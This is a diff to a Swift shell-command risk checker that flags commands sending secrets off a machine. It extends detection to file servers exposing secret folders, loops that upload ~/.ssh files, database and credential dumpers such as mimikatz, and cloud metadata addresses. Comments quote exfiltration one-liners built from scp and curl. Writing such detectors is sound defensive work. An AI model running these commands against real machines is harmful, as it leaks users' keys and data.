@@ -34,8 +34,11 @@ enum Sending {
     case "mail", "mutt", "mailx", "sendmail":
       return carriesSecret(invocation, script) ? .danger : .caution
     case "python", "python3":
-      return invocation.value(of: "-m").map { ["http.server", "SimpleHTTPServer"].contains($0) } == true
-        ? .caution : nil
+      guard invocation.value(of: "-m").map({ ["http.server", "SimpleHTTPServer", "pyftpdlib"].contains($0) }) == true
+      else { return nil }
+      let shown = invocation.value(of: "-d", "--directory")
+      return shown.map { SecretFile.isNamedOrFolder($0) || TargetPath.isSystem($0) || $0 == "~" } == true
+        ? .danger : .caution
     default: return nil
     }
   }
@@ -51,7 +54,8 @@ enum Sending {
     let isFed = script.sources(of: invocation).contains { source in
       tellers.contains(source.name ?? "") && source.operands.isEmpty
         || source.operands.contains { isPrivate($0.text) } || readsSecret(source)
-        || packsMuch(source) || RiskRule.showsSecret(source)
+        || packsMuch(source) || RiskRule.showsSecret(source) || dumpers.contains(source.name ?? "")
+        || source.operands.contains { ByteSearch.holdsAny(of: metadata, in: $0.text) }
     }
     let namesSecret =
       invocation.name != "ssh"
@@ -69,7 +73,7 @@ enum Sending {
         ["find", "fd", "fdfind", "locate", "grep"].contains(finder.name ?? "")
           && finder.ownArguments.contains { SecretFile.isNamed($0.text) }
       }
-    return isFed || sendsFound || sendsCopy(invocation, script) || namesSecret || readsFile || readsSecret(invocation)
+    return isFed || sendsFound || namesLoop(invocation, script) || sendsCopy(invocation, script) || namesSecret || readsFile || readsSecret(invocation)
   }
 
   /// Whether it sends a file that an earlier command made of secrets: `tar czf k.tgz ~/.ssh; scp k.tgz h:`.
@@ -84,6 +88,23 @@ enum Sending {
     }
   }
 
+  /// Whether a word holds a variable that goes over secret files: `for f in ~/.ssh/*; do curl -T "$f" x; done`.
+  private static func namesLoop(_ invocation: Invocation, _ script: InvocationCollector) -> Bool {
+    invocation.arguments.contains { argument in
+      guard argument.isDynamic, let sign = argument.written.firstIndex(of: "$") else { return false }
+      let name = argument.written[sign...].dropFirst().drop { $0 == "{" }.prefix { $0.isLetter || $0.isNumber || $0 == "_" }
+      return script.state.values(of: String(name)).contains(where: SecretFile.isNamedOrFolder)
+    }
+  }
+
+  /// Programs that print all of a database.
+  private static let dumpers: Set<String> = [
+    "mysqldump", "mariadb-dump", "pg_dump", "pg_dumpall", "mongodump", "mongoexport", "ldapsearch", "slapcat", "arangodump",
+    "influxd-ctl", "secretsdump.py", "mimikatz",
+  ]
+  /// Where a machine of a cloud asks who it is, and gets keys for it.
+  private static let metadata = ["169.254.169.254", "metadata.google.internal", "100.100.100.200"]
+
   private static let makers: Set<String> = [
     "tar", "zip", "7z", "cp", "cat", "base64", "gzip", "xz", "zstd", "openssl", "gpg", "xxd", "dd", "mv", "install",
     "rsync",
@@ -92,7 +113,15 @@ enum Sending {
   /// Whether a home folder, the working folder or all of the system is packed: secrets are in there as well.
   private static func packsMuch(_ source: Invocation) -> Bool {
     ["tar", "zip", "cpio", "7z", "find", "dd"].contains(source.name ?? "")
-      && source.operands.contains { TargetPath.isBroad($0) && !$0.text.hasPrefix("-") && $0.value != "." }
+      && source.operands.contains {
+        TargetPath.isBroad($0) && !$0.text.hasPrefix("-") && $0.value != "." || isPersonalFolder($0.text)
+      }
+  }
+
+  private static func isPersonalFolder(_ path: String) -> Bool {
+    guard let start = ["~/", "$HOME/", "${HOME}/"].first(where: path.hasPrefix) else { return false }
+    let first = path.dropFirst(start.count).prefix { $0 != "/" }
+    return ["Documents", "Desktop", "Pictures", "Downloads", "Library", ".config", "Dropbox", "Mail"].contains(first)
   }
 
   private static func readsSecret(_ invocation: Invocation) -> Bool {
@@ -102,6 +131,11 @@ enum Sending {
   private static func readsInput(_ invocation: Invocation) -> Bool {
     !invocation.upstream.isEmpty
       || invocation.redirections.contains { $0.operator == .input && $0.target.literalValue != "/dev/null" }
+  }
+
+  /// Whether it prints secrets or the list of users itself.
+  static func readsPrivate(_ invocation: Invocation) -> Bool {
+    invocation.operands.contains { isPrivate($0.text) } || tellers.contains(invocation.name ?? "")
   }
 
   /// Secrets, and the list of users.
